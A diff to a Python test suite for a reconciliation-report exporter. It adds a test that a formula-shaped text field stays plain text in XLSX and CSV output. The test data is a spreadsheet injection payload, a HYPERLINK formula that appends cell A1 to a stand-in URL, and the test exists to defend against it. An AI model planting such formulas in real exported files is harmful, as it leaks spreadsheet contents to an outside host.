@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 from datetime import date, datetime
 
@@ -117,6 +118,22 @@ def _check_l2_every_section_has_a_table(report):
     assert all(t.columns for t in tables)
 
 
+def _check_l2_a_text_shaped_like_a_formula_stays_text_in_xlsx_and_csv(report):
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    first = report.reconciliation[0]
+    crafted = dataclasses.replace(report, reconciliation=[dataclasses.replace(first, reference=formula),
+                                                          *report.reconciliation[1:]])
+    book = load_workbook(io.BytesIO(export_report(crafted, "xlsx", "zh-CN")[0]))
+    cell = next(c for row in book["对账差异"].iter_rows(min_row=2) for c in row if c.value == formula)
+    assert cell.data_type == "s"
+    body, _, _ = export_report(crafted, "csv", "zh-CN", "reconciliation")
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    assert rows[1][4] == "'" + formula
+    body, _, _ = export_report(crafted, "csv", "zh-CN", "count_differences")
+    counted = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1]
+    assert counted[4:9] == ["16", "1", "17", "14", "-1"]  # a negative number is no formula: no quote
+
+
 def _check_l2_export_refuses_an_unknown_format_or_section(report):
     with pytest.raises(InvalidInput):
         export_report(report, "docx")
@@ -133,6 +150,7 @@ def test_l2_exports_of_a_crafted_day_open_and_mask_personal_data(crafted, world)
     _check_l2_pdf_has_extractable_chinese_in_an_embedded_cjk_font(report)
     _check_l2_pdf_in_english(report)
     _check_l2_every_section_has_a_table(report)
+    _check_l2_a_text_shaped_like_a_formula_stays_text_in_xlsx_and_csv(report)
     _check_l2_export_refuses_an_unknown_format_or_section(report)
 
 
